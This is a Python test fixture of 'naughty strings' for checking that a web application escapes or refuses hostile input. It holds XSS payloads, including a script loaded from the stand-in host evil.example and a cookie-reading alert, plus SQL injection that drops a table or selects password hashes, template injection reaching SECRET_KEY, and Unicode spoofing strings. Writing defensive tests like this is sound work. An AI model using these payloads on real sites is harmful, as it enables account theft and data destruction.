"""Strings that have broken web applications before.

In the spirit of the Big List of Naughty Strings (minimaxir/big-list-of-naughty-strings) and the
PortSwigger XSS cheat sheet, written for this project: markup and script in every context a
template can put text (element body, attribute, URL, inside the JSON-LD ``<script>``), template
and SQL syntax, Unicode that tricks readers or normalisers, and sizes at the limits.

``NAUGHTY`` maps a short name (the test id) to the string. ``CONTROL`` are strings that every
field must refuse with a message naming it; the rest must be stored and shown back escaped.
"""

from __future__ import annotations

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": '<img src=x onerror="alert(1)">',
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-script": '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "body-onload": "<body onload=alert(1)>",
    "iframe-js": '<iframe src="javascript:alert(1)"></iframe>',
    "a-href-js": '<a href="javascript:alert(1)">x</a>',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "attr-breakout": '" onmouseover="alert(1)" x="',
    "attr-breakout-single": "' onfocus='alert(1)' autofocus '",
    "close-textarea": "</textarea><script>alert(1)</script>",
    "close-title": "</title><script>alert(1)</script>",
    "close-script": "</script><script>alert(1)</script>",
    "close-script-mixed": "</ScRiPt ><!--",
    "html-comment": "<!-- x --><!--",
    "cdata-end": "]]><x>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x3C;",
    "style-expr": '<div style="background:url(javascript:alert(1))">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "math-href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "javascript-url": "javascript:alert(document.cookie)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript-url": "vbscript:msgbox(1)",
    "json-breakout": '"}]}</script><script>alert(1)</script>',
    "u2028": "line\u2028separator\u2029paragraph",
}
INJECTION = {
    "jinja": "{{7*7}} {% raw %}{{ config }}{% endraw %}",
    "jinja-config": "{{ config.SECRET_KEY }}",
    "jinja-block": "{% for x in range(3) %}x{% endfor %}",
    "format": "%s %d %n {0} ${7*7} #{7*7}",
    "sql-quote": "' OR '1'='1",
    "sql-drop": "'; DROP TABLE claims; --",
    "sql-comment": "1/*comment*/ UNION SELECT password_hash FROM users --",
    "like-wildcards": "100% _of_ \\ things",
    "fts-syntax": 'NEAR(a b) OR "x" * AND NOT - ^',
    "backslashes": "C:\\Windows\\System32\\ \\x00 \\u0000",
}
UNICODE = {
    "rtl-override": "\u202eevil.example/\u202dgnp.exe",
    # Refused in user text (naming the field); in an article's body, shown between FSI and PDI.
    "bidi-isolates": "\u2067שלום\u2069 and \u2066ltr\u2069 \u2068first strong",
    "bidi-embedding": "\u202bembedded, never closed",
    "zero-width": "ze\u200bro\u200cwi\u200ddth\ufeff",
    "emoji": "Fact-check ✅❌ 🤥🇫🇷 👩🏽‍🔬",
    "astral": "𝕿𝖍𝖊 𝖋𝖆𝖈𝖙𝖘 𐐷 𠜎",
    "combining": "Z̵̡̢̛̗̘̙̜̝̞̟̠͇͈͉̍̎̏̐̑̒̓̔̕̚a̶l̷g̸o",
    "nfd": "e\u0301te\u0301 cafe\u0301",
    "nfkc-fullwidth": "＜script＞alert(1)＜/script＞",
    "ligature": "ﬁnance ﬀ Ⅸ ㎏",
    "turkish-i": "İstanbul ıi ß ẞ",
    "homoglyph": "pаypal.com аdmin",  # Cyrillic а
    "bom": "\ufeffbom",
    "arabic": "مرحبا بالعالم",
    "noncharacters": "\ufdd0\ufffe\uffff end",
    "private-use": "\ue000\U000f0000",
    "nbsp": "a\u00a0b\u2007c\u202fd",
    "newlines": "one\ntwo\r\nthree",
}
SIZES = {
    "empty": "",
    "spaces": "   ",
    "one-char": "x",
    "long-400": "a" * 400,
    "long-word-5000": "x" * 5000,
    "long-astral": "🤥" * 300,
}
# Every field refuses these, naming itself (C0/C1 controls; PostgreSQL cannot even store NUL).
CONTROL = {
    "nul": "before\x00after",
    "bell": "ding\x07",
    "escape": "\x1b[31mred\x1b[0m",
    "backspace": "abc\x08\x08",
    "c1": "next\x85line",
    "del": "del\x7f",
}

NAUGHTY: dict[str, str] = {**MARKUP, **INJECTION, **UNICODE, **SIZES, **CONTROL}

# Elements the app's own pages never use: one of these in a page came from input.
FOREIGN_TAGS = frozenset(
    {"iframe", "svg", "math", "img", "object", "embed", "base", "style", "x", "frame", "mi"}
)
